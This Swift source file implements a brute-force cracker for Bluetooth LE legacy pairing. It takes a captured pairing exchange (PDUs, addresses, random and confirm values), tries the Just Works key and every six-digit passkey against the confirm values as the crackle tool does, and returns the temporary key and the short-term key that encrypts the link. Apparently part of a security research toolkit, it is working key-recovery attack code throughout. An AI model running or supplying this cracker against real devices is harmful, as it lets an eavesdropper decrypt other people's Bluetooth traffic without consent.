/// What an LE legacy pairing exchanged in the clear (Core Spec Vol 3, Part H, 2.3.5.5 and 3.5):
/// enough to find the TK by trying candidates against the confirm values, as crackle does.
public struct LegacyPairingExchange: Hashable, Sendable {
    /// Pairing Request and Response PDUs, 7 octets each including the opcode, as on the wire.
    public var pairingRequest: [UInt8]
    public var pairingResponse: [UInt8]
    /// The initiator's (central's) and responder's addresses used in the connection.
    public var initiator: PairingAddress
    public var responder: PairingAddress
    /// Mrand/Srand and Mconfirm/Sconfirm from the Pairing Random and Pairing Confirm PDUs, wire order.
    public var mrand: Key128
    public var srand: Key128
    public var mconfirm: Key128
    public var sconfirm: Key128?

    public init(
        pairingRequest: [UInt8], pairingResponse: [UInt8], initiator: PairingAddress, responder: PairingAddress,
        mrand: Key128, srand: Key128, mconfirm: Key128, sconfirm: Key128? = nil
    ) {
        self.pairingRequest = pairingRequest
        self.pairingResponse = pairingResponse
        self.initiator = initiator
        self.responder = responder
        self.mrand = mrand
        self.srand = srand
        self.mconfirm = mconfirm
        self.sconfirm = sconfirm
    }
}

/// The TK found for a legacy pairing and the STK it gives.
public struct LegacyPairingKeys: Hashable, Sendable {
    /// The temporary key, wire order; `passkey` is its value when it came from passkey entry (nil for Just Works' 0).
    public var tk: Key128
    public var passkey: UInt32?
    /// STK = s1(TK, Srand, Mrand) (Core Spec Vol 3, Part H, 2.4.4.1), wire order: encrypts the link after pairing.
    public var stk: Key128
}

public enum LegacyPairingCracker {
    /// Finds the TK of an LE legacy pairing: 0 (Just Works) first, then the passkeys 0…999,999
    /// (Core Spec Vol 3, Part H, 2.3.5.3), each checked as Mconfirm = c1(TK, Mrand, …) and, when given,
    /// Sconfirm = c1(TK, Srand, …). One AES key schedule and two blocks per candidate through one reused context.
    ///
    /// - Returns: TK and STK, or nil when no candidate matches (out-of-band TK, or wrong inputs: check the
    ///   address types and that the PDUs include their opcode).
    public static func crack(_ x: LegacyPairingExchange) -> LegacyPairingKeys? { search(x).keys }

    /// TKs a full search tries: 0 (Just Works and passkey 000000) through 999,999.
    public static let candidateCount = 1_000_000

    /// ``crack(_:)`` over the first `limit` candidates only (TK 0 alone for a Just Works pairing; a capture's budget),
    /// and how many it tried.
    public static func search(_ x: LegacyPairingExchange, limit: Int = candidateCount) -> (keys: LegacyPairingKeys?, tried: Int) {
        let end = UInt32(min(max(0, limit), candidateCount))
        let (p1, p2) = SecurityFunction.c1Pads(
            preq: x.pairingRequest, pres: x.pairingResponse,
            initiator: x.initiator, responder: x.responder)
        // Everything in FIPS-197 order (most significant first) for the block cipher.
        let first = zip(x.mrand.bytes, p1).map { $0 ^ $1 }.reversed() as [UInt8]
        let pad2 = p2.reversed() as [UInt8]
        let target = x.mconfirm.msbFirst
        let aes = AESBlockCipher()
        var key = [UInt8](repeating: 0, count: 16)
        var block = [UInt8](repeating: 0, count: 16)
        var found: UInt32? = nil
        key.withUnsafeMutableBufferPointer { k in
            block.withUnsafeMutableBufferPointer { b in
                first.withUnsafeBufferPointer { f in
                    pad2.withUnsafeBufferPointer { p in
                        target.withUnsafeBufferPointer { t in
                            for candidate: UInt32 in 0..<end {
                                k[15] = UInt8(truncatingIfNeeded: candidate)
                                k[14] = UInt8(truncatingIfNeeded: candidate >> 8)
                                k[13] = UInt8(truncatingIfNeeded: candidate >> 16)
                                aes.setKey(k.baseAddress!)
                                aes.encryptBlock(f.baseAddress!, b.baseAddress!)
                                for i in 0..<16 { b[i] ^= p[i] }
                                aes.encryptBlock(b.baseAddress!, b.baseAddress!)
                                if b[0] == t[0] && b[1] == t[1] && b.elementsEqual(t) {
                                    let tk = Key128(UInt64(candidate))
                                    if let s = x.sconfirm {
                                        let c = SecurityFunction.c1(
                                            k: tk, r: x.srand, preq: x.pairingRequest, pres: x.pairingResponse,
                                            initiator: x.initiator, responder: x.responder)
                                        if c != s { continue }
                                    }
                                    found = candidate
                                    break
                                }
                            }
                        }
                    }
                }
            }
        }
        guard let passkey = found else { return (nil, Int(end)) }
        let tk = Key128(UInt64(passkey))
        let keys = LegacyPairingKeys(
            tk: tk, passkey: passkey == 0 ? nil : passkey,
            stk: SecurityFunction.s1(k: tk, r1: x.srand, r2: x.mrand))
        return (keys, Int(passkey) + 1)
    }
}
